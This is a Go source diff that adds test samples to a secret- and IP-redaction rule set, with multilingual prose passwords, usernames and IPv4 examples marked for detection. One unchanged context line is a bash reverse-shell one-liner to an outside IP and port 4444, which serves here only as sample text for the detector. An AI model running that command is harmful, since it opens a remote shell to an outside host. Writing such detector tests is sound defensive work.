@@ -449,6 +449,7 @@ func builtinRules() []rule {
 			id: "ipv4", typ: "private-ipv4", kind: kindStructural, first: digits, shape: shDot1,
 			match: matchIPv4,
 			tp: []string{
+				`host «3.3.131.9» is the bastion, «52.14.9.8» is a NAT gateway`,
 				"bash -i >& /dev/tcp/«52.14.88.9»/4444 0>&1",
 				"プライベートIP«172.31.44.18»）、イベントID5e2a9c71-3f4b-4d8e-b1a6-7c0f2e9d4b35で確認",
 				`label="i-x\n«10.72.20.41»"`,
@@ -464,7 +465,8 @@ func builtinRules() []rule {
 				`GET /api/hosts/«10.0.1.23»/status`,
 				"the broker hosts («10.12.40.5»-7) and «10.20.0.4»-«10.20.0.9»",
 			},
-			fp: []string{"set_real_ip_from 130.176.0.0/16;   # CloudFront", "dig @100.100.100.100 x", "amazon-ssm-agent-3.3.131.0-1.amzn2, 1.2.3.4-beta and 1.2.3.4-rc1", "HEALTHCHECKOBSERVATIONS\t15.177.18.14\tus-east-1",
+			fp: []string{
+				`"buildNumber": "1.0.2.0"; Note: 3.3.131.0 is the agent version`, "set_real_ip_from 130.176.0.0/16;   # CloudFront", "dig @100.100.100.100 x", "amazon-ssm-agent-3.3.131.0-1.amzn2, 1.2.3.4-beta and 1.2.3.4-rc1", "HEALTHCHECKOBSERVATIONS\t15.177.18.14\tus-east-1",
 				`0.0.0.0/0`, `127.0.0.1`, `169.254.169.254`, `255.255.240.0`, `8.8.8.8 / 1.1.1.1`,
 				`10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16`, `Chrome/120.0.0.0`, `build 1.2.3.4-beta`,
 				"http://169.254.170.23/v1/credentials", "KMS server: 169.254.169.250:1688", "pkg:maven/com.fasterxml.jackson.core/jackson-databind@2.13.4.1", `10.0.17763.5206`, `version 1.2.3.4`, `pkg 1.2.3.4-1ubuntu1`, `build 1.2.3.4-5a`, `"Version": "4.12.0.3"`, `nameserver 114.114.114.114`,
@@ -586,6 +588,8 @@ func builtinRules() []rule {
 			id: "prose-password", typ: "password", kind: kindHeuristic, first: "",
 			match: matchProsePassword,
 			tp: []string{
+				"পাসওয়ার্ড: «PadmaNodi2026kx»\nகடவுச்சொல்: «VaigaiLedger52q»\nהסיסמה היא «Yarkon_Graf77»\nرمز عبور: «KarunRiver2026p»\nየይለፍ ቃል፦ «LalibelaRock43w»\nlykilorð: «KatlaGos2026z»",
+				`nenosiri: «Kilimanjaro_Tmp7x» parool: «ToompeaLinn27» lozinka: «PlitviceJezero26» wagwoord: «TafelbergMis42»`,
 				"$ rman target / catalog «rcat_owner»/«Rc4t!pw_8812»@«RCATDB»\nSQL> connect «app_user»/«S3cr3t!x»@«PDB1»\n",
 				"Trust policy with sts:ExternalId «c7Hq2Lz9Wm4Rb8Tx». AWS Service: ecs-tasks",
 				"het wachtwoord is «Stroopwafel#2026»; heslo «Knedlik2026» pro; Lösenord: «Midsommar-Stang_2026»; parolă «Transfagarasan2026».",
@@ -908,6 +912,8 @@ func builtinRules() []rule {
 			notShape: shQuotedKey,
 			match:    matchNameToken,
 			tp: []string{
+				`ang role na «ledger-uploader»; notandi: «jon_ops_admin»; užívateľ «tatry-deploy»; Grafana ተጠቃሚ፦ «abebe_ops»`,
+				`DynamoDB tablica «gosti2026»; DynamoDB таблицата «rilaorders2026»; טבלת DynamoDB «yamorders2026»; DynamoDB taflan «greidslur2025»`,
 				"the subnets «us-east-1a-private» and «us-east-1a-db»",
 				"(external id «vntg-ext-61c0d9a2f4»)",
 				"[«brenwick-deployer»]\naws_access_key_id = $AWS_ACCESS_KEY_ID\n[default]\nregion = eu-west-1\n",
